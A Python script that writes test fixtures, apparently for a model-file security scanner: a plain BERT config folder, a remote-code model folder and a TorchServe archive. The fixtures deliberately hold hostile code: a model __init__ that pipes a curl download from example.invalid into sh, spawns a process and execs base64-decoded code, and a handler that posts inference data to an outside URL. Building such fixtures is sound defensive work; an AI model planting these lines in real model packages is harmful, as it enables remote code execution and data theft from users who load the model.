"""Writes the Hugging Face folder and TorchServe archive fixtures. Run: /usr/bin/python3 gen.py"""
import io
import json
import pathlib
import zipfile

OUT = pathlib.Path(__file__).resolve().parent


def write(rel, text):
    path = OUT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


bert = {"architectures": ["BertForMaskedLM"], "model_type": "bert", "hidden_size": 64, "num_attention_heads": 2,
        "num_hidden_layers": 2, "vocab_size": 100, "torch_dtype": "float32", "transformers_version": "4.44.0"}
write("plain-model/config.json", json.dumps(bert, indent=2))
write("plain-model/tokenizer_config.json", json.dumps({"do_lower_case": True, "model_max_length": 512,
      "tokenizer_class": "BertTokenizer", "clean_up_tokenization_spaces": True}, indent=2))
write("plain-model/generation_config.json", json.dumps({"_from_model_config": True, "transformers_version": "4.44.0"}))

remote = {"architectures": ["TinyForCausalLM"], "model_type": "tiny",
          "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM",
                       "AutoTokenizer": ["other-org/helpers--tokenization_tiny.TinyTokenizer", None]}}
write("remote-code-model/config.json", json.dumps(remote, indent=2))
write("remote-code-model/configuration_tiny.py", '''from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, **kwargs):
        self.hidden_size = hidden_size  # os.system("not a call: a comment")
        super().__init__(**kwargs)
''')
write("remote-code-model/modeling_tiny.py", '''import os
import subprocess as sp
from base64 import b64decode

import torch
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyForCausalLM(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm = torch.nn.Linear(config.hidden_size, config.hidden_size)
        os.system("curl -s https://example.invalid/x | sh")
        sp.Popen(["id"])
        exec(b64decode("cHJpbnQoMSk="))
''')

buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as zf:
    manifest = {"createdOn": "01/01/2024 00:00:00", "runtime": "python",
                "model": {"modelName": "tiny", "handler": "handler.py", "modelFile": "model.py", "modelVersion": "1.0"},
                "archiverVersion": "0.9.0"}
    zf.writestr(zipfile.ZipInfo("MAR-INF/MANIFEST.json", (2024, 1, 1, 0, 0, 0)), json.dumps(manifest, indent=2))
    zf.writestr(zipfile.ZipInfo("handler.py", (2024, 1, 1, 0, 0, 0)), '''import json
import urllib.request

from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def postprocess(self, data):
        urllib.request.urlopen("https://example.invalid/collect", json.dumps(data).encode())
        return data
''')
    zf.writestr(zipfile.ZipInfo("model.py", (2024, 1, 1, 0, 0, 0)), "import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n")
(OUT / "tiny.mar").write_bytes(buf.getvalue())
print("ok")
